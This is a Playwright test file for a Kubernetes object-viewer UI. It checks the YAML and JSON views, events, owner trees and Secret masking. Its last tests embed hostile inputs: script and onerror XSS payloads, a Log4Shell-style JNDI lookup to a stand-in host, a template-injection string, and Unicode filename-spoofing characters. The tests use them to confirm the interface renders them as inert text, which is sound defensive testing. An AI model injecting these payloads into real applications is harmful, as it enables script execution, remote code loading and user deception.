// One object: its document, events, owners and secrets, and hostile text.
import { type Page } from "@playwright/test";
import { code, moreActions, notice, rows } from "../harness/look.ts";
import { expect, test } from "../harness/test.ts";

const storefront = "/c/practice/apis/apps/v1/namespaces/shop/deployments/storefront";
const secret = "/c/practice/api/v1/namespaces/shop/secrets/carts-db";

const tab = (page: Page, name: string) => page.getByRole("navigation", { name: "Views of this object" }).getByRole("link", { name });

/** The text that a user copies: the lines without their numbers. */
const text = async (page: Page) => (await code(page).locator("li > code").allTextContents()).join("\n");

test("as YAML, and the lines have addresses", async ({ page }) => {
  await page.goto(`${storefront}?tab=yaml`);
  await expect(page).toHaveTitle("storefront · Fieldmark");
  await expect(tab(page, "YAML")).toHaveAttribute("aria-current", "page");
  const yaml = await text(page);
  expect(yaml).toMatch(/^apiVersion: apps\/v1\nkind: Deployment\nmetadata:\n  annotations:\n/);
  expect(yaml).toMatch(/^  replicas: 3$/m);
  expect(yaml).not.toContain("managedFields");
  await page.goto(`${storefront}?tab=yaml#L20`);
  await expect(page.locator("#L20")).toBeInViewport();
});

test("as JSON, it is the object", async ({ page, api }) => {
  const { metadata, spec } = await api.get("/apis/apps/v1/namespaces/shop/deployments/storefront");
  await page.goto(storefront);
  await tab(page, "JSON").click();
  await expect(tab(page, "JSON")).toHaveAttribute("aria-current", "page");
  const shown = JSON.parse(await text(page));
  expect(shown.spec).toEqual(spec);
  expect({ ...metadata, managedFields: undefined }).toEqual({ ...shown.metadata, managedFields: undefined });
});

test("managed fields are folded away until asked for", async ({ page }) => {
  await page.goto(`${storefront}?tab=yaml`);
  await (await moreActions(page)).getByRole("link", { name: /^Show managed fields \(\d+ entries\)/ }).click();
  await expect(code(page)).toContainText("managedFields:");
  await expect(code(page)).toContainText("manager: release-bot");
  await (await moreActions(page)).getByRole("link", { name: "Hide managed fields" }).click();
  await expect(code(page)).not.toContainText("managedFields:");
});

test("conditions are up front", async ({ page }) => {
  await page.goto(storefront);
  const conditions = page.getByRole("list", { name: "Status conditions" });
  await expect(conditions).toContainText(/Available\s*True/);
  await expect(conditions).toContainText("MinimumReplicasAvailable");
});

test("its events, and only its", async ({ page }) => {
  await page.goto(storefront);
  await tab(page, "Events").click();
  await expect(page).toHaveURL(`${storefront}?tab=events`);
  await expect(rows(page).first()).toContainText("ScalingReplicaSet");
  for (const row of await rows(page).all()) await expect(row).toContainText("deployment/storefront");
});

test("an object without events says so", async ({ page }) => {
  await page.goto("/c/practice/apis/shop.example.com/v1/regions/europe?tab=events");
  await expect(notice(page)).toContainText("No events");
});

test("a Deployment owns its ReplicaSet, which owns its Pods, which know their owner", async ({ page }) => {
  await page.goto(storefront);
  await tab(page, "Related").click();
  const tree = page.getByRole("region", { name: "Owners and dependents" });
  const refs = tree.locator(".ref");
  await expect(refs.first()).toContainText(/Deployment\s*storefront/);
  await expect(refs.first()).toHaveAttribute("aria-current", "page");
  await expect(refs.nth(1)).toContainText(/ReplicaSet\s*storefront-.*3\/3 ready/s);
  const pods = refs.filter({ hasText: /Pod\s*storefront-/ });
  await expect(pods).toHaveCount(3);
  await expect(pods.first(), "its state is the server’s").toContainText("Running");
  await expect(refs.last(), "a ReplicaSet that wants no pods is last").toContainText("0/0 ready");
  await pods.first().getByRole("link").click();
  await tab(page, "Related").click();
  await expect(refs.nth(0)).toContainText(/Deployment\s*storefront/);
  await expect(refs.nth(1)).toContainText(/ReplicaSet\s*storefront-.*controller/s);
  await expect(refs.nth(2)).toHaveAttribute("aria-current", "page");
  await refs.nth(0).getByRole("link", { name: "storefront", exact: true }).click();
  await expect(page).toHaveURL(storefront);
});

test("what refers to an object, and what it refers to", async ({ page }) => {
  await page.goto(`${storefront}?tab=related`);
  const from = page.getByRole("region", { name: /^Referred to by/ });
  await expect(from.locator(".ref").filter({ hasText: "Service" })).toContainText("storefront");
  await expect(from).toContainText("Fieldmark searched services");
  await page.getByRole("region", { name: /^Refers to/ }).getByRole("link", { name: "app=storefront" }).click();
  await expect(page).toHaveURL(/\/pods\?labelSelector=app%3Dstorefront$/);
  await expect(rows(page)).toHaveCount(3);
});

test("a Service lists its endpoints, and a node its pods", async ({ page }) => {
  await page.goto("/c/practice/api/v1/namespaces/shop/services/storefront?tab=related");
  const endpoints = page.locator(".endpoints tbody tr");
  await expect(endpoints).toHaveCount(3);
  for (const row of await endpoints.all()) await expect(row).toContainText("ready");
  const pod = await endpoints.first().getByRole("link").first().textContent();
  await endpoints.first().getByRole("link").nth(1).click();
  await tab(page, "Related").click();
  const pods = page.getByRole("region", { name: "Pods on this node" });
  await expect(pods.getByRole("link", { name: pod!, exact: true })).toBeVisible();
  await pods.getByRole("link", { name: "Open as a list" }).click();
  await expect(page).toHaveURL(/\/api\/v1\/pods\?fieldSelector=spec\.nodeName%3D/);
  await expect(rows(page).filter({ hasText: pod! })).toHaveCount(1);
});

test("selectors are links in each view of the text", async ({ page }) => {
  for (const view of ["fields", "yaml", "json"]) {
    await page.goto(`${storefront}?tab=${view}`);
    await expect(page.locator('.code a[href$="/pods?labelSelector=app%3Dstorefront"], .blame a[href$="/pods?labelSelector=app%3Dstorefront"]').first(), view).toBeVisible();
  }
});

test("the scale subresource", async ({ page }) => {
  await page.goto(storefront);
  await (await moreActions(page)).getByRole("link", { name: "Subresource scale" }).click();
  await expect(page).toHaveURL(`${storefront}/scale`);
  const scale = await text(page);
  expect(scale).toContain("kind: Scale");
  expect(scale).toContain("replicas: 3");
});

test("a name that isn't there", async ({ page }) => {
  expect((await page.goto("/c/practice/api/v1/namespaces/shop/pods/nosuch"))?.status()).toBe(404);
  await expect(notice(page)).toContainText('There is no Pod "nosuch"');
  await notice(page).getByRole("link", { name: "List all Pods" }).click();
  await expect(rows(page).first()).toBeVisible();
});

test("a custom object", async ({ page }) => {
  await page.goto("/c/practice/apis/shop.example.com/v1/namespaces/shop/promotions/spring-sale");
  const yaml = await text(page);
  expect(yaml).toContain("discountPercent: 20");
  expect(yaml).toContain("حراج بهاره");
});

test("a Secret's values are masked everywhere", async ({ page }) => {
  const hidden = ["not-a-real-password", Buffer.from("not-a-real-password").toString("base64"), Buffer.from("carts").toString("base64")];
  const collection = secret.slice(0, secret.lastIndexOf("/"));
  for (const address of [secret, ...["yaml", "json", "events", "related"].map((name) => `${secret}?tab=${name}`), `${secret}?managed=1`, `${collection}?wide=1`]) {
    expect((await page.goto(address))?.status(), address).toBe(200);
    const html = await page.content();
    for (const value of hidden) expect(html, address).not.toContain(value);
  }
});

test("a Secret's values are shown one by one, on request", async ({ page }) => {
  for (const address of [secret, `${secret}?tab=json`]) {
    await page.goto(address);
    await page.getByRole("link", { name: "Show POSTGRES_PASSWORD" }).click();
    await expect(page.locator(".revealed")).toHaveText("not-a-real-password");
    await expect(page.getByRole("link", { name: "Show POSTGRES_USER" })).toBeVisible();
    await expect(code(page)).not.toContainText("not-a-real-password");
    await page.getByRole("link", { name: "Hide", exact: true }).click();
    await expect(page.locator(".revealed")).toHaveCount(0);
    await expect(page).toHaveURL(address);
  }
});

test("hostile text is inert", async ({ page }) => {
  page.on("dialog", (dialog) => {
    void dialog.dismiss();
    throw new Error(`a page opened a dialog: ${dialog.message()}`);
  });
  for (const view of ["", "?tab=yaml", "?tab=json", "?managed=1"]) {
    await page.goto(`/c/practice/api/v1/namespaces/platform/configmaps/untrusted-text${view}`);
    const shown = await text(page);
    expect(shown).toContain("<script>alert(1)</script>");
    expect(shown).toContain("<img src=x onerror=alert(1)>");
    expect(shown).toContain("{{ .Values.secret }} ${jndi:ldap://example.com/a}");
    expect(shown, "the right-to-left override is visible").toMatch(/invoice-\\u202efdp\.exe/i);
    expect(shown, "the zero-width space is visible").toMatch(/ad\\u200bmin/i);
    expect(shown).not.toMatch(/[\u202e\u200b\u001b]/);
    await expect(page.locator("main").locator("script, img, [onerror], [onmouseover]")).toHaveCount(0);
    await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0);
  }
});

test("no letters are joined into others: 8x8 stays 8x8", async ({ page }) => {
  await page.goto("/c/practice/api/v1/namespaces/platform/configmaps/untrusted-text");
  const joined = await page.locator("h1, .side a, .anatomy, .code code, summary, input").evaluateAll((all) => all.map((element) => getComputedStyle(element).fontVariantLigatures));
  expect(new Set(joined)).toEqual(new Set(["none"]));
});
